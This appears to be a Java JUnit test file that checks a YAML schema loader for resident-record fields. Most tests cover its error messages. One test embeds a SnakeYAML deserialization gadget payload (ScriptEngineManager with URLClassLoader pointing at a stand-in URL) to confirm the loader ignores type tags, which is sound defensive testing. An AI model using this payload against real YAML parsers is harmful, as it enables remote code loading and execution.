package cn.jzz.hub.schema;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ResidentSchemaLoaderTest {

  @TempDir Path tmp;

  @Test
  void reportsEveryProblemAtOnceWithItsPath() {
    Path dir = SchemaFixtures.copyTo(tmp);
    SchemaFixtures.edit(dir, "resident.yaml", "code_table: sex\n", "code_table: sexx\n");
    SchemaFixtures.edit(dir, "resident.yaml",
        "    description: Highest education level (GB/T 4658); the most recent of jyj and gaj wins.\n", "");
    SchemaFixtures.edit(dir, "resident.yaml", "    key: unit_no\n", "    key: unit_no\n    lable: 单元\n");
    SchemaFixtures.edit(dir, "resident.yaml", "{ordered: [rsj]}\n    description: Occupation",
        "{ordered: [rsjj]}\n    description: Occupation");

    assertThatThrownBy(() -> ResidentSchema.load(dir))
        .isInstanceOf(SchemaException.class)
        .satisfies(e -> {
          SchemaException se = (SchemaException) e;
          assertThat(se.problems()).extracting(Problem::toString).containsExactlyInAnyOrder(
              "resident.yaml fields[18].code_table: unknown code table 'sexx'; known: disability-category, "
                  + "disability-grade, division, education, employment-status, ethnicity, health-status, "
                  + "marital-status, person-category, political-status, relation-to-head, religion, "
                  + "residence-status, sex",
              "resident.yaml fields[33].description: missing description: every field needs one sentence "
                  + "saying what it holds",
              "resident.yaml fields[8].lable: unknown key 'lable'; allowed: number, key, label, group, type, "
                  + "code_table, values, tags, max_length, repeated, sensitivity, authority, searchable, description",
              "resident.yaml fields[37].authority.ordered: unknown source id 'rsjj'; known: gaj, mzj, rsj, ybj, "
                  + "wjw, clj, tyjrj, jyj, zjj, zrzyj, sfj, xfj, zfw, zzb, fl, ishandong, derived");
          assertThat(se.getMessage()).startsWith("4 problem(s) in the schema definition");
        });
  }

  @Test
  void rejectsMisusedTypesAndAuthorities() {
    Path dir = SchemaFixtures.copyTo(tmp);
    SchemaFixtures.edit(dir, "resident.yaml", "    type: int\n", "    type: integer\n");
    SchemaFixtures.edit(dir, "resident.yaml", "{latest_of: [jyj, gaj]}", "{latest_of: [jyj, derived]}");
    SchemaFixtures.edit(dir, "resident.yaml", "{ordered: [gaj, ishandong], then: latest}",
        "{ordered: [gaj], latest_of: [ishandong]}");
    SchemaFixtures.edit(dir, "resident.yaml", "  - number: 55\n", "  - number: 54\n");

    assertThatThrownBy(() -> ResidentSchema.load(dir)).isInstanceOf(SchemaException.class)
        .hasMessageContaining("fields[9].type: unknown type 'integer'; allowed: string, int, long")
        .hasMessageContaining("fields[33].authority.latest_of: 'derived' has no timestamp")
        .hasMessageContaining("fields[15].authority: authority needs exactly one of")
        .hasMessageContaining("fields[54].number: duplicate number 54")
        .hasMessageContaining("missing numbers: [55]");
  }

  @Test
  void missingDirectoryNamesTheFileAndTheFix() throws Exception {
    Path empty = Files.createDirectories(tmp.resolve("nothing"));
    assertThatThrownBy(() -> ResidentSchema.load(empty)).isInstanceOf(SchemaException.class)
        .hasMessageContaining("resident.yaml: file not found")
        .hasMessageContaining("hub.schemas-dir");
  }

  @Test
  void refusesOversizedFiles() throws Exception {
    Path dir = SchemaFixtures.copyTo(tmp);
    Files.writeString(dir.resolve("resident.yaml"), "# x\n".repeat(300_000), java.nio.charset.StandardCharsets.UTF_8);
    assertThatThrownBy(() -> ResidentSchema.load(dir)).hasMessageContaining("definition files are limited to");
  }

  @Test
  void ignoresYamlTypeTagsInsteadOfInstantiatingClasses() throws Exception {
    Path dir = SchemaFixtures.copyTo(tmp);
    SchemaFixtures.edit(dir, "resident.yaml", "version: 1\n",
        "version: 1\nevil: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
    assertThatThrownBy(() -> ResidentSchema.load(dir)).isInstanceOf(SchemaException.class)
        .hasMessageContaining("unknown key 'evil'");
  }
}
